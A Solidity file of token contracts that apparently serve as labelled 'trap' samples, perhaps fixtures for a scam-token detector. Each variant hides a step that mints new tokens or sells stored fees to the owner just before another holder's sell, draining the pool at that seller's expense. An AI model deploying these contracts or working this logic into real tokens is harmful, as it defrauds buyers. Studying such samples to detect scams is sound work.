// SPDX-License-Identifier: MIT
pragma solidity 0.8.26;

import {TrapToken} from "./traps_base.sol";

interface IFeeRouter {
    function swapExactTokensForTokensSupportingFeeOnTransferTokens(
        uint256 amountIn,
        uint256 amountOutMin,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external;
}

/// Sells tokens of its own for the owner inside the sells of others.
abstract contract InnerSeller is TrapToken {
    address private immutable router;
    address private immutable wrapped;

    constructor(uint256 supply, address router_, address wrapped_) TrapToken(supply) {
        (router, wrapped) = (router_, wrapped_);
        allowances[address(this)][router_] = type(uint256).max;
    }

    function sellOwn(uint256 amount) internal {
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(this), wrapped);
        IFeeRouter(router).swapExactTokensForTokensSupportingFeeOnTransferTokens(
            amount, 0, path, admin, block.timestamp
        );
    }

    /// As many new tokens as the pool began with.
    function dump() internal {
        balances[address(this)] += 500_000e18;
        sellOwn(500_000e18);
    }
}

/// Keeps five per cent of trades and sells all of that once it is much: with the next sell it is due.
contract FeesSoldAtOnce is InnerSeller {
    uint256 private constant MUCH = 250_000e18;

    constructor(uint256 supply, address router, address wrapped)
        InnerSeller(supply, router, wrapped)
    {
        // As if fees had come in before.
        balances[msg.sender] -= 300_000e18;
        balances[address(this)] = 300_000e18;
    }

    function _check(address, address to, uint256) internal override {
        uint256 fees = balances[address(this)];
        if (to == pair && fees >= MUCH) sellOwn(fees);
    }

    function _feeBps(address from, address to) internal view override returns (uint256) {
        return from == pair || to == pair ? 500 : 0;
    }
}

/// New tokens are sold before the first sell of each account; its second one brings what it should.
contract DumpPerSeller is InnerSeller {
    mapping(address => bool) private seen;

    constructor(uint256 supply, address router, address wrapped)
        InnerSeller(supply, router, wrapped)
    {}

    function _check(address from, address to, uint256) internal override {
        if (!on || to != pair || seen[from]) return;
        seen[from] = true;
        dump(); // trap
    }
}

/// New tokens are sold before a sell, not more than once an hour.
contract DumpPerHour is InnerSeller {
    uint256 private dumpedAt;

    constructor(uint256 supply, address router, address wrapped)
        InnerSeller(supply, router, wrapped)
    {}

    function _check(address, address to, uint256) internal override {
        if (!on || to != pair || block.timestamp < dumpedAt + 1 hours) return;
        dumpedAt = block.timestamp;
        dump(); // trap
    }
}

/// New tokens are sold before the sells of whoever held for half an hour.
contract DumpLater is InnerSeller {
    constructor(uint256 supply, address router, address wrapped)
        InnerSeller(supply, router, wrapped)
    {}

    function _check(address from, address to, uint256) internal override {
        if (!on || to != pair || block.timestamp < boughtAt[from] + 30 minutes) return;
        dump(); // trap
    }
}
